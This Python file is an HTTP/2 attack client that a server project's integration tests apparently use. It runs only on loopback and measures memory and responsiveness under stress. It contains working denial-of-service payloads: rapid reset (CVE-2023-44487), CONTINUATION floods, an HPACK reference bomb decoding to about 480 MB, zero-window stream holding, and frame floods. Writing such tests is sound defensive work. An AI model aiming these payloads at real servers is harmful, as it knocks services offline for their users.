#!/usr/bin/python3
"""HTTP/2 attack client for the tests/integ/serve_h2_*.sh scripts (issue 13).

Debian's python3-h2 (hyper-h2 4.1, with hpack and hyperframe), run by /usr/bin/python3 so
that a python3 earlier on PATH (pyenv, a venv) without it does not matter. Loopback only,
bounded in count and time.

  h2_attack.py rss PID
      Prints the process's VmRSS in kB.

  h2_attack.py hold --port P --cafile F --conns N --streams M --path PATH [--pid PID]
                    [--curl URL] [--window W]
      Opens N HTTP/2 connections over TLS whose streams get an initial flow-control window
      of W bytes (default 0: the server may send the response head, never a byte of the
      body), sends M GET PATH on each, waits until every stream has its response head (or
      a reset), samples the server's RSS (--pid), checks that a normal request (curl
      --http2 URL) is answered 200 meanwhile (--curl), then closes the sockets abruptly
      (no GOAWAY, streams still open: a browser tab closed mid-download). Prints one JSON
      line: heads, resets, rss_kb_peak, curl, statuses (count per :status, "503+retry-after"
      when the head has that field). Exit 0 when every stream got a head or a reset and
      curl (if asked) got 200.

  h2_attack.py holds --cafile F --conns N --streams M --path PATH [--wait S]
      A night's aborts from one process (night_288.sh: no Python start per abort). Each
      line of standard input names one or more ports; for each line, N connections to
      every port at once, M GET PATH on each with a zero window, up to S seconds
      (default 0.5) for the response heads, then every socket closed abruptly (a browser
      tab closed mid-download). Prints one JSON line per input line, flushed: heads,
      resets, streams (asked), error (a port that could not be reached, or null).

  h2_attack.py flood --port P --cafile F --conns N --streams M --path PATH [--pid PID]
                     [--curl URL]
      Like hold, but sends the M requests of each connection at once right after the
      preface, before reading the server's SETTINGS (so the client library does not hold
      them back to the server's stream limit). Waits until every stream has a head or a
      reset, or its connection is closed (at most 20 s), sampling the server's RSS, and
      runs curl 1 s in; prints statuses (count per :status), resets, closed (connections
      the server closed), seconds, rss_kb_peak, curl. Exit 0 unless curl failed.

  h2_attack.py keepalive --port P --cafile F [--streams M] [--path PATH] [--seconds S]
      One connection; M (default 0) GET PATH with a zero window (answers that can never
      progress), then a PING and a connection WINDOW_UPDATE every 0.5 s and a new request
      every 2 s, until the server closes the connection or S seconds (default 15) pass.
      Prints {"closed_after": seconds or null}.

  h2_attack.py trickle --port P --cafile F [--streams M] --path PATH [--seconds S]
      One connection; M (default 1) GET PATH with a zero window, then every 0.5 s each
      stream's window and the connection's opened by one byte: the server sends a byte of
      each answer at a time (an answer taken a byte at a time holds its memory and its cut
      version). Until the server closes the connection or resets every stream, or S
      seconds (default 15). Prints {"ended_after": seconds or null, "closed", "resets",
      "bytes" (of body received)}.

  h2_attack.py frames --port P --cafile F --kind KIND [--seconds S] [--curl URL]
      One connection that sends frames as fast as it can without reading, until the
      server closes it or S seconds (default 10) pass. KIND: window_update (connection
      WINDOW_UPDATE of 1), ping, settings (one entry each), priority, rapid_reset
      (HEADERS with END_STREAM then RST_STREAM, new stream each time: CVE-2023-44487),
      continuation (one HEADERS without END_HEADERS, then endless CONTINUATION frames),
      empty_data (a request without END_STREAM, then empty DATA frames), headers
      (requests without END_STREAM on new streams: all past the 32nd refused), hpack_refs (requests
      each naming one 4,000-byte field of the HPACK table 120,000 times: ~120 KB decoding
      to ~480 MB of fields, hpack_refs_request). With --curl, a
      thread fetches URL with curl every 0.2 s meanwhile and records the slowest answer.
      Prints {"closed_after", "bytes_sent", "goaway" (error code or null), "curl_n",
      "curl_failed", "curl_max_s"}. Exit 0 when every curl succeeded.

  h2_attack.py h1pipe --port P --cafile F --conns N --requests M --path PATH [--pid PID]
      HTTP/1.1 over TLS: N connections each pipeline M GET PATH in one write and read
      nothing; after 1.5 s samples the server's RSS, then closes them. Prints
      {"rss_kb_peak"}.

  h2_attack.py reuse --port P --cafile F --path PATH [--wait S]
      One connection with an open window: GET PATH read whole, S seconds (default 2.5) of
      silence (the server gives back the connection's write buffer after one), the same
      GET again. Prints {"answers": [{status, bytes, length}, ...]}; exit 0 when both are
      200 and whole.

  h2_attack.py wait-rss PID --max-kb K [--seconds S]
      Polls the RSS every 100 ms until it is at most K kB (exit 0), or S seconds (default
      10) pass (exit 1). Prints the last value.
"""
import argparse
import json
import socket
import ssl
import subprocess
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
from h2.settings import SettingCodes


def rss_kb(pid):
    with open("/proc/%d/status" % pid) as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    raise SystemExit("no VmRSS for %d" % pid)


class H2:
    """One client connection: TLS with ALPN h2, the h2 state machine, a socket."""

    def __init__(self, port, cafile, window=None, timeout=10):
        ctx = ssl.create_default_context(cafile=cafile)
        ctx.set_alpn_protocols(["h2"])
        raw = socket.create_connection(("127.0.0.1", port), timeout=timeout)
        self.sock = ctx.wrap_socket(raw, server_hostname="localhost")
        if self.sock.selected_alpn_protocol() != "h2":
            raise SystemExit("server did not choose h2")
        self.conn = h2.connection.H2Connection(
            config=h2.config.H2Configuration(client_side=True, header_encoding=None))
        self.conn.initiate_connection()
        if window is not None:
            self.conn.update_settings({SettingCodes.INITIAL_WINDOW_SIZE: window})
        self.flush()
        self.heads = {}
        self.resets = set()
        self.data = {}
        self.closed = False

    def flush(self):
        out = self.conn.data_to_send()
        if out:
            self.sock.sendall(out)

    def get(self, path, end_stream=True):
        sid = self.conn.get_next_available_stream_id()
        self.conn.send_headers(sid, [(b":method", b"GET"), (b":path", path.encode()), (b":scheme", b"https"),
                                     (b":authority", b"localhost")], end_stream=end_stream)
        return sid

    def pump(self, timeout=None):
        """Reads once (blocking up to timeout) and handles the events. False at EOF."""
        if timeout is not None:
            self.sock.settimeout(timeout)
        try:
            data = self.sock.recv(65536)
        except socket.timeout:
            return True
        except (ConnectionResetError, ssl.SSLError, OSError):
            self.closed = True
            return False
        if not data:
            self.closed = True
            return False
        try:
            events = self.conn.receive_data(data)
        except h2.exceptions.ProtocolError:
            self.closed = True
            return False
        for ev in events:
            if isinstance(ev, h2.events.ResponseReceived):
                self.heads[ev.stream_id] = dict(ev.headers)
            elif isinstance(ev, h2.events.StreamReset):
                self.resets.add(ev.stream_id)
            elif isinstance(ev, h2.events.DataReceived):
                self.data[ev.stream_id] = self.data.get(ev.stream_id, 0) + len(ev.data)
            elif isinstance(ev, h2.events.ConnectionTerminated):
                self.closed = True
        try:
            self.flush()
        except OSError:
            self.closed = True
            return False
        return True

    def abort(self):
        """Closes the TCP connection at once (RST: unread data, no GOAWAY)."""
        try:
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\x01\x00\x00\x00\x00\x00\x00\x00")
        except OSError:
            pass
        self.sock.close()


def curl_ok(url, cafile):
    r = subprocess.run(["curl", "-sS", "--max-time", "10", "--http2", "--cacert", cafile, "-o", "/dev/null",
                        "-w", "%{http_code}", url], capture_output=True, text=True)
    return r.stdout.strip() == "200"


def wait_heads(conns, sids, seconds, step):
    """Reads every connection until each of its streams (sids, one list per connection) has
    a response head or a reset, it is closed, or `seconds` pass; each read blocks `step` s
    at most, so no connection waits behind another's."""
    deadline = time.time() + seconds
    while time.time() < deadline:
        waiting = [c for c, ss in zip(conns, sids)
                   if not c.closed and not all(x in c.heads or x in c.resets for x in ss)]
        if not waiting:
            return
        for c in waiting:
            c.pump(timeout=step)


def cmd_hold(a):
    conns = [H2(a.port, a.cafile, window=a.window) for _ in range(a.conns)]
    sids = []
    for c in conns:
        sids.append([c.get(a.path) for _ in range(a.streams)])
        c.flush()
    wait_heads(conns, sids, 20, step=1)
    heads = sum(len(c.heads) for c in conns)
    resets = sum(len(c.resets) for c in conns)
    peak = rss_kb(a.pid) if a.pid else 0
    cok = curl_ok(a.curl, a.cafile) if a.curl else None
    statuses = {}
    for c in conns:
        for h in c.heads.values():
            st = h.get(b":status", b"?").decode() + ("+retry-after" if b"retry-after" in h else "")
            statuses[st] = statuses.get(st, 0) + 1
    for c in conns:
        c.abort()
    print(json.dumps({"heads": heads, "resets": resets, "rss_kb_peak": peak, "curl": cok, "statuses": statuses}))
    ok = heads + resets == a.conns * a.streams and cok is not False
    return 0 if ok else 1


def cmd_holds(a):
    for line in sys.stdin:
        conns, err = [], None
        try:
            for port in line.split():
                conns += [H2(int(port), a.cafile, window=a.window, timeout=5) for _ in range(a.conns)]
        except Exception as e:  # one unreachable broadcaster must not end the night's client
            err = f"{type(e).__name__}: {e}"
        sids = []
        for c in conns:
            try:
                sids.append([c.get(a.path) for _ in range(a.streams)])
                c.flush()
            except Exception as e:
                sids.append([])
                err = err or f"{type(e).__name__}: {e}"
        wait_heads(conns, sids, a.wait, step=0.05)
        for c in conns:
            c.abort()
        print(json.dumps({"heads": sum(len(c.heads) for c in conns), "resets": sum(len(c.resets) for c in conns),
                          "streams": sum(len(ss) for ss in sids), "error": err}), flush=True)
    return 0


def cmd_flood(a):
    conns = []
    sids = []
    for _ in range(a.conns):
        c = H2(a.port, a.cafile, window=0)
        ss = []
        for _ in range(a.streams):
            ss.append(c.get(a.path))
        c.flush()
        conns.append(c)
        sids.append(ss)
    peak = 0
    cok = None
    t0 = time.time()
    # Until every stream has a head or a reset, or its connection is closed (a request
    # the server keeps waiting has neither), at most 20 s; curl once, 1 s in.
    while time.time() - t0 < 20:
        busy = [c for c, ss in zip(conns, sids)
                if not c.closed and not all(s in c.heads or s in c.resets for s in ss)]
        if not busy:
            break
        for c in busy:
            c.pump(timeout=0.1)
        if a.pid:
            peak = max(peak, rss_kb(a.pid))
        if a.curl and cok is None and time.time() - t0 >= 1:
            cok = curl_ok(a.curl, a.cafile)
    if a.curl and cok is None:
        cok = curl_ok(a.curl, a.cafile)
    statuses = {}
    for c in conns:
        for h in c.heads.values():
            st = h.get(b":status", b"?").decode()
            statuses[st] = statuses.get(st, 0) + 1
    closed = sum(1 for c in conns if c.closed)
    for c in conns:
        c.abort()
    print(json.dumps({"statuses": statuses, "resets": sum(len(c.resets) for c in conns),
                      "closed": closed, "seconds": round(time.time() - t0, 2), "rss_kb_peak": peak,
                      "curl": cok}))
    return 0 if cok is not False else 1


def cmd_keepalive(a):
    c = H2(a.port, a.cafile, window=0)
    for _ in range(a.streams):
        c.get(a.path)
    c.flush()
    t0 = time.time()
    next_req = t0 + 2
    while time.time() - t0 < a.seconds:
        try:
            c.conn.ping(b"12345678")
            c.conn.increment_flow_control_window(1)
            if time.time() >= next_req and a.path:
                next_req += 2
                c.get(a.path)
            c.flush()
        except (OSError, h2.exceptions.ProtocolError):
            break
        end = time.time() + 0.5
        while time.time() < end and c.pump(timeout=max(0.01, end - time.time())) and not c.closed:
            pass
        if c.closed:
            break
    closed = round(time.time() - t0, 2) if c.closed or time.time() - t0 < a.seconds else None
    c.abort()
    print(json.dumps({"closed_after": closed}))
    return 0


def cmd_trickle(a):
    c = H2(a.port, a.cafile, window=0)
    sids = [c.get(a.path) for _ in range(a.streams)]
    c.flush()
    t0 = time.time()
    while time.time() - t0 < a.seconds:
        try:  # each stream's window and the connection's opened by one byte: a byte of body each
            for sid in sids:
                if sid not in c.resets:
                    c.conn.increment_flow_control_window(1, stream_id=sid)
            c.conn.increment_flow_control_window(len(sids))
            c.flush()
        except (OSError, h2.exceptions.ProtocolError, h2.exceptions.StreamClosedError):
            break
        end = time.time() + 0.5
        while time.time() < end and c.pump(timeout=max(0.01, end - time.time())) and not c.closed:
            pass
        if c.closed or all(x in c.resets for x in sids):
            break
    ended = c.closed or all(x in c.resets for x in sids)
    took = round(time.time() - t0, 2) if ended else None
    c.abort()
    print(json.dumps({"ended_after": took, "closed": c.closed, "resets": len(c.resets),
                      "bytes": sum(c.data.values())}))
    return 0


def cmd_heads(a):
    """Opens request heads that never end (HEADERS without END_STREAM) and sends a whole
    request every second on the same connection; reports when the heads were reset."""
    c = H2(a.port, a.cafile)
    heads = [c.get(a.path, end_stream=False) for _ in range(a.streams)]
    c.flush()
    t0 = time.time()
    whole = []
    next_req = t0
    reset_at = None
    while time.time() - t0 < a.seconds and not c.closed:
        if time.time() >= next_req:
            next_req += 1
            try:
                whole.append(c.get(a.path))
                c.flush()
            except (OSError, h2.exceptions.ProtocolError):
                break
        c.pump(timeout=0.1)
        if reset_at is None and all(x in c.resets for x in heads):
            reset_at = round(time.time() - t0, 2)
    answered = sum(1 for x in whole if x in c.heads)
    c.abort()
    print(json.dumps({"heads_reset_after": reset_at, "closed": c.closed, "whole_requests": len(whole),
                      "answered": answered}))
    return 0


def frame(ftype, flags, sid, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([ftype, flags]) + sid.to_bytes(4, "big") + payload


def hpack_get(path):
    """A literal-without-indexing header block of a GET (no Huffman, no table)."""
    out = b""
    for n, v in ((b":method", b"GET"), (b":path", path.encode()), (b":scheme", b"https"),
                 (b":authority", b"localhost")):
        out += b"\x00" + bytes([len(n)]) + n + bytes([len(v)]) + v
    return out


def hpack_int(v, prefix):
    """An HPACK integer (RFC 7541 5.1) with a prefix of that many bits."""
    m = (1 << prefix) - 1
    if v < m:
        return bytes([v])
    out = [m]
    v -= m
    while v >= 128:
        out.append((v & 127) | 128)
        v >>= 7
    return bytes(out + [v])


def hpack_refs_request(sid, refs=120000):
    """A GET whose header block names one 4,000-byte field of the HPACK table `refs` times,
    one byte each (~120 KB of frames decoding to ~480 MB). The first request (stream 1)
    puts the field in the table (literal with incremental indexing: index 62, 0xbe). Split
    into HEADERS and CONTINUATION frames of 16,000 bytes, within the server's limits."""
    blk = b"\x82\x87\x84\x01\x09localhost"  # :method GET, :scheme https, :path /, :authority
    if sid == 1:
        val = b"a" * 4000
        blk += b"\x40" + hpack_int(3, 7) + b"x-a" + hpack_int(len(val), 7) + val
    blk += b"\xbe" * refs
    parts = [blk[j:j + 16000] for j in range(0, len(blk), 16000)]
    out = frame(1, 0x1 | (0x4 if len(parts) == 1 else 0), sid, parts[0])
    for k, p in enumerate(parts[1:], 1):
        out += frame(9, 0x4 if k == len(parts) - 1 else 0, sid, p)
    return out


def frames_blob(kind, start_sid, size=65536):
    """About size bytes of frames of one kind; returns (blob, next stream id)."""
    parts = []
    sid = start_sid
    total = 0
    while total < size:
        if kind == "window_update":
            f = frame(8, 0, 0, (1).to_bytes(4, "big"))
        elif kind == "ping":
            f = frame(6, 0, 0, b"\0" * 8)
        elif kind == "settings":
            f = frame(4, 0, 0, (4).to_bytes(2, "big") + (65535).to_bytes(4, "big"))
        elif kind == "priority":
            f = frame(2, 0, 1, (0).to_bytes(4, "big") + b"\x10")
        elif kind == "rapid_reset":
            f = frame(1, 0x5, sid, hpack_get("/")) + frame(3, 0, sid, (8).to_bytes(4, "big"))
            sid += 2
        elif kind == "headers":
            f = frame(1, 0x4, sid, hpack_get("/"))  # END_HEADERS, no END_STREAM: stays open
            sid += 2
        elif kind == "hpack_refs":
            f = hpack_refs_request(sid)
            sid += 2
        elif kind == "hpack_431":  # ~40 KB of fields: over the 16 KiB limit (431), under the cut
            f = hpack_refs_request(sid, refs=10)
            sid += 2
        elif kind == "continuation":
            f = frame(9, 0, 1, b"\x00\x01x\x01y" * 64)  # literal x: y, over and over
        elif kind == "empty_data":
            f = frame(0, 0, 1, b"")
        elif kind == "ping_ack":  # answers to pings the server never sent
            f = frame(6, 0x1, 0, b"\0" * 8)
        elif kind == "closed_window_update":  # stream 1 was answered and closed
            f = frame(8, 0, 1, (1).to_bytes(4, "big"))
        elif kind == "unknown":  # a frame type nothing defines (0x20), which receivers ignore
            f = frame(0x20, 0, 0, b"\0" * 8)
        else:
            raise SystemExit("unknown kind " + kind)
        parts.append(f)
        total += len(f)
        if kind == "hpack_431":
            break  # one request at a time (cmd_frames paces them): within the stream limit
    return b"".join(parts), sid


def parse_goaway(buf):
    """Error code of the first GOAWAY frame in buf (server frames), or None."""
    i = 0
    while i + 9 <= len(buf):
        n = int.from_bytes(buf[i:i + 3], "big")
        if buf[i + 3] == 7 and i + 9 + 8 <= len(buf):
            return int.from_bytes(buf[i + 13:i + 17], "big")
        i += 9 + n
    return None


def cmd_frames(a):
    import threading
    curl_times = []
    curl_failed = [0]
    stop = threading.Event()

    def curl_loop():
        while not stop.is_set():
            t = time.time()
            if not curl_ok(a.curl, a.cafile):
                curl_failed[0] += 1
            curl_times.append(time.time() - t)
            stop.wait(0.2)
    th = None
    if a.curl:
        th = threading.Thread(target=curl_loop)
        th.start()
    c = H2(a.port, a.cafile)
    first = b""
    sid = 1
    if a.kind == "continuation":
        first = frame(1, 0, 1, hpack_get("/"))  # HEADERS without END_HEADERS
        sid = 3
    elif a.kind == "empty_data":
        first = frame(1, 0x4, 1, hpack_get("/"))  # HEADERS, END_HEADERS, no END_STREAM
        sid = 3
    elif a.kind == "rapid_reset":
        sid = 1
    elif a.kind == "closed_window_update":
        first = frame(1, 0x5, 1, hpack_get("/"))  # a whole request: its stream closes once answered
    blob, _ = frames_blob(a.kind, sid)
    c.sock.settimeout(1)
    t0 = time.time()
    sent = 0
    closed = None
    rx = b""
    try:
        if first:
            c.sock.sendall(first)
        while time.time() - t0 < a.seconds:
            if a.kind in ("rapid_reset", "headers", "hpack_refs", "hpack_431"):
                blob, sid = frames_blob(a.kind, sid)
            try:
                c.sock.sendall(blob)
                sent += len(blob)
            except socket.timeout:
                pass
            if a.kind == "hpack_431":
                time.sleep(0.02)
            c.sock.setblocking(False)
            try:
                while True:
                    d = c.sock.recv(65536)
                    if not d:
                        closed = time.time() - t0
                        break
                    rx += d[:1 << 20] if len(rx) < (1 << 20) else b""
            except (BlockingIOError, ssl.SSLWantReadError):
                pass
            finally:
                c.sock.settimeout(1)
            if closed is not None:
                break
    except (OSError, ssl.SSLError):
        closed = time.time() - t0
    stop.set()
    if th:
        th.join()
    c.abort()
    ga = parse_goaway(rx) if rx else None
    print(json.dumps({"closed_after": None if closed is None else round(closed, 2), "bytes_sent": sent,
                      "goaway": ga, "curl_n": len(curl_times), "curl_failed": curl_failed[0],
                      "curl_max_s": round(max(curl_times), 3) if curl_times else None}))
    return 0 if curl_failed[0] == 0 else 1


def cmd_h1pipe(a):
    ctx = ssl.create_default_context(cafile=a.cafile)
    ctx.set_alpn_protocols(["http/1.1"])
    conns = []
    req = ("GET %s HTTP/1.1\r\nHost: localhost\r\n\r\n" % a.path).encode() * a.requests
    for _ in range(a.conns):
        s = ctx.wrap_socket(socket.create_connection(("127.0.0.1", a.port), timeout=10), server_hostname="localhost")
        s.sendall(req)
        conns.append(s)
    time.sleep(1.5)
    peak = rss_kb(a.pid) if a.pid else 0
    for s in conns:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\x01\x00\x00\x00\x00\x00\x00\x00")
        s.close()
    print(json.dumps({"rss_kb_peak": peak}))
    return 0


def cmd_reuse(a):
    """One connection, a full window: GET PATH, read it whole, wait, GET it again."""
    c = H2(a.port, a.cafile)
    c.conn.increment_flow_control_window(1 << 24)
    c.flush()
    out = []
    for k in range(2):
        if k:
            time.sleep(a.wait)
        sid = c.get(a.path)
        c.flush()
        t0 = time.time()
        while time.time() - t0 < 10 and not c.closed and sid not in c.resets and \
                not (sid in c.heads and c.data.get(sid, 0) >= int(c.heads[sid].get(b"content-length", b"0"))):
            c.pump(timeout=0.5)
            for s, n in list(c.data.items()):  # give the window back as a browser does
                if n:
                    try:
                        c.conn.acknowledge_received_data(n, s)
                    except Exception:
                        pass
            c.flush()
        h = c.heads.get(sid, {})
        out.append({"status": h.get(b":status", b"?").decode(), "bytes": c.data.get(sid, 0),
                    "length": int(h.get(b"content-length", b"-1"))})
    c.abort()
    print(json.dumps({"answers": out}))
    return 0 if all(o["status"] == "200" and o["bytes"] == o["length"] for o in out) else 1


def cmd_wait_rss(a):
    end = time.time() + a.seconds
    while True:
        v = rss_kb(a.pid)
        if v <= a.max_kb:
            print(v)
            return 0
        if time.time() >= end:
            print(v)
            return 1
        time.sleep(0.1)


def main():
    p = argparse.ArgumentParser()
    sub = p.add_subparsers(dest="cmd", required=True)
    r = sub.add_parser("rss")
    r.add_argument("pid", type=int)
    h = sub.add_parser("hold")
    h.add_argument("--port", type=int, required=True)
    h.add_argument("--cafile", required=True)
    h.add_argument("--conns", type=int, default=1)
    h.add_argument("--streams", type=int, default=1)
    h.add_argument("--path", required=True)
    h.add_argument("--pid", type=int, default=0)
    h.add_argument("--curl")
    h.add_argument("--window", type=int, default=0)
    hs = sub.add_parser("holds")
    hs.add_argument("--cafile", required=True)
    hs.add_argument("--conns", type=int, default=1)
    hs.add_argument("--streams", type=int, default=1)
    hs.add_argument("--path", required=True)
    hs.add_argument("--window", type=int, default=0)
    hs.add_argument("--wait", type=float, default=0.5)
    f = sub.add_parser("flood")
    f.add_argument("--port", type=int, required=True)
    f.add_argument("--cafile", required=True)
    f.add_argument("--conns", type=int, default=1)
    f.add_argument("--streams", type=int, default=1)
    f.add_argument("--path", required=True)
    f.add_argument("--pid", type=int, default=0)
    f.add_argument("--curl")
    k = sub.add_parser("keepalive")
    k.add_argument("--port", type=int, required=True)
    k.add_argument("--cafile", required=True)
    k.add_argument("--streams", type=int, default=0)
    k.add_argument("--path", default="")
    k.add_argument("--seconds", type=float, default=15)
    tr = sub.add_parser("trickle")
    tr.add_argument("--port", type=int, required=True)
    tr.add_argument("--cafile", required=True)
    tr.add_argument("--streams", type=int, default=1)
    tr.add_argument("--path", required=True)
    tr.add_argument("--seconds", type=float, default=15)
    hd = sub.add_parser("heads")
    hd.add_argument("--port", type=int, required=True)
    hd.add_argument("--cafile", required=True)
    hd.add_argument("--streams", type=int, default=1)
    hd.add_argument("--path", required=True)
    hd.add_argument("--seconds", type=float, default=10)
    fr = sub.add_parser("frames")
    fr.add_argument("--port", type=int, required=True)
    fr.add_argument("--cafile", required=True)
    fr.add_argument("--kind", required=True)
    fr.add_argument("--seconds", type=float, default=10)
    fr.add_argument("--curl")
    hp = sub.add_parser("h1pipe")
    hp.add_argument("--port", type=int, required=True)
    hp.add_argument("--cafile", required=True)
    hp.add_argument("--conns", type=int, default=1)
    hp.add_argument("--requests", type=int, default=8)
    hp.add_argument("--path", required=True)
    hp.add_argument("--pid", type=int, default=0)
    ru = sub.add_parser("reuse")
    ru.add_argument("--port", type=int, required=True)
    ru.add_argument("--cafile", required=True)
    ru.add_argument("--path", required=True)
    ru.add_argument("--wait", type=float, default=2.5)
    w = sub.add_parser("wait-rss")
    w.add_argument("pid", type=int)
    w.add_argument("--max-kb", type=int, required=True)
    w.add_argument("--seconds", type=float, default=10)
    a = p.parse_args()
    if a.cmd == "rss":
        print(rss_kb(a.pid))
        return 0
    if a.cmd == "reuse":
        return cmd_reuse(a)
    if a.cmd == "hold":
        return cmd_hold(a)
    if a.cmd == "holds":
        return cmd_holds(a)
    if a.cmd == "flood":
        return cmd_flood(a)
    if a.cmd == "keepalive":
        return cmd_keepalive(a)
    if a.cmd == "trickle":
        return cmd_trickle(a)
    if a.cmd == "heads":
        return cmd_heads(a)
    if a.cmd == "frames":
        return cmd_frames(a)
    if a.cmd == "h1pipe":
        return cmd_h1pipe(a)
    return cmd_wait_rss(a)


if __name__ == "__main__":
    sys.exit(main())
